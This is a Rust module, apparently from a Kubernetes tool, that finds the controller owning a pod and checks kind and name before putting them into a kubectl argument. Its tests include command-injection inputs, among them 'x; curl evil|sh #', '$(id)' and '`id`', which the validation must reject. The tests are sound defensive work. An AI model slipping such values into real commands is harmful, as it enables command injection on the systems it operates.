//! Who makes a pod again when it has gone. Pure.

use std::fmt;

use spillway_core::kube::pod::Pod;

/// What people know a pod as part of: a Deployment, a StatefulSet, a Job, …; or the pod itself, if it is of none.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(super) struct Workload {
    pub(super) namespace: String,
    pub(super) maker: Maker,
    pub(super) name: String,
}

/// What makes the pods of a workload.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(super) enum Maker {
    /// A controller of that kind.
    Controller(String),
    /// Nobody: a bare pod.
    Nobody,
}

impl Workload {
    /// The pod's. `None` for an object without a name, which no API server sends.
    pub(super) fn of(pod: &Pod) -> Option<Self> {
        let metadata = &pod.metadata;
        let namespace = metadata.namespace.clone()?;
        let mut owners = metadata.owner_references.iter().flatten();
        let Some(owner) = owners.find(|owner| owner.controller == Some(true)) else {
            return Some(Self { namespace, maker: Maker::Nobody, name: metadata.name.clone()? });
        };
        let (kind, name) = match deployment(pod, &owner.kind, &owner.name) {
            Some(deployment) => ("Deployment", deployment),
            None => (owner.kind.as_str(), owner.name.as_str()),
        };
        // Whoever makes a pod writes them, as long as they like.
        Some(Self { namespace, maker: Maker::Controller(shortened(kind)), name: shortened(name) })
    }

    /// Whether nobody makes it again.
    pub(super) fn is_bare(&self) -> bool {
        self.maker == Maker::Nobody
    }

    /// Whether it is meant to run for ever: a Job's pod is alone for other reasons.
    pub(super) fn is_kept_up(&self) -> bool {
        matches!(&self.maker, Maker::Controller(kind) if matches!(kind.as_str(), "Deployment" | "StatefulSet"))
    }

    /// Whether it is a Job, to which a pod's end may be a failure.
    pub(super) fn is_job(&self) -> bool {
        matches!(&self.maker, Maker::Controller(kind) if kind == "Job")
    }

    /// Its kind and its name as kubectl takes them, if they can be those of an object: nothing checks an owner reference.
    pub(super) fn as_argument(&self) -> Option<String> {
        let resource = match &self.maker {
            Maker::Controller(kind) => kind.to_lowercase(),
            Maker::Nobody => "pod".to_owned(),
        };
        let is_kind = !resource.is_empty() && resource.bytes().all(|b| b.is_ascii_alphanumeric());
        (is_kind && is_dns_name(&self.name)).then(|| format!("{resource} {}", self.name))
    }
}

/// Whether it is a DNS-1123 subdomain, as the names of objects are.
fn is_dns_name(name: &str) -> bool {
    let is_label = |label: &str| {
        let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-';
        !label.is_empty() && label.bytes().all(is_inner) && !label.starts_with('-') && !label.ends_with('-')
    };
    name.len() <= LONGEST && name.split('.').all(is_label)
}

/// The longest name of an object.
const LONGEST: usize = 253;

fn shortened(text: &str) -> String {
    match text.char_indices().nth(LONGEST) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text.to_owned(),
    }
}

/// The Deployment, if that is who made the controller: what it makes bears its name and the hash of its pods' template.
fn deployment<'a>(pod: &Pod, kind: &str, name: &'a str) -> Option<&'a str> {
    let hash = pod.metadata.labels.as_ref()?.get("pod-template-hash")?;
    name.strip_suffix(hash)?.strip_suffix('-').filter(|_| kind == "ReplicaSet")
}

impl fmt::Display for Workload {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { namespace, maker, name } = self;
        match maker {
            Maker::Controller(kind) => write!(f, "{kind} {namespace}/{name}"),
            Maker::Nobody => write!(f, "pod {namespace}/{name}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn of(owners: &Value) -> String {
        let pod = json!({"metadata": {"name": "web-5d4f-x", "namespace": "shop", "ownerReferences": owners,
            "labels": {"pod-template-hash": "5d4f"}}});
        Workload::of(&serde_json::from_value(pod).unwrap()).unwrap().to_string()
    }

    #[test]
    fn a_pod_is_known_by_what_people_made() {
        let owner = |kind: &str, name: &str| json!([{"apiVersion": "apps/v1", "kind": kind, "name": name, "uid": "u", "controller": true}]);
        assert_eq!(of(&owner("ReplicaSet", "web-5d4f")), "Deployment shop/web");
        assert_eq!(of(&owner("ReplicaSet", "web")), "ReplicaSet shop/web", "made by hand");
        assert_eq!(of(&owner("StatefulSet", "db")), "StatefulSet shop/db");
        assert_eq!(of(&json!([])), "pod shop/web-5d4f-x");
    }

    #[test]
    fn only_what_can_be_an_objects_kind_and_name_stands_in_a_command() {
        let argument = |kind: &str, name: &str| {
            let maker = Maker::Controller(kind.to_owned());
            Workload { namespace: "shop".to_owned(), maker, name: name.to_owned() }.as_argument()
        };
        assert_eq!(argument("StatefulSet", "db-0.main").as_deref(), Some("statefulset db-0.main"));
        for name in ["x; curl evil|sh #", "$(id)", "`id`", "x\u{1b}[2J", "-rf", "a..b", "Db", "", "x\ny", "ü"] {
            assert_eq!(argument("StatefulSet", name), None, "{name:?}");
        }
        for kind in ["x;id", "", "a b", "$(id)"] {
            assert_eq!(argument(kind, "db"), None, "{kind:?}");
        }
        let endless =
            json!([{"apiVersion": "v1", "kind": "x", "name": "y".repeat(1_000_000), "uid": "u", "controller": true}]);
        assert!(of(&endless).len() < 300);
    }
}
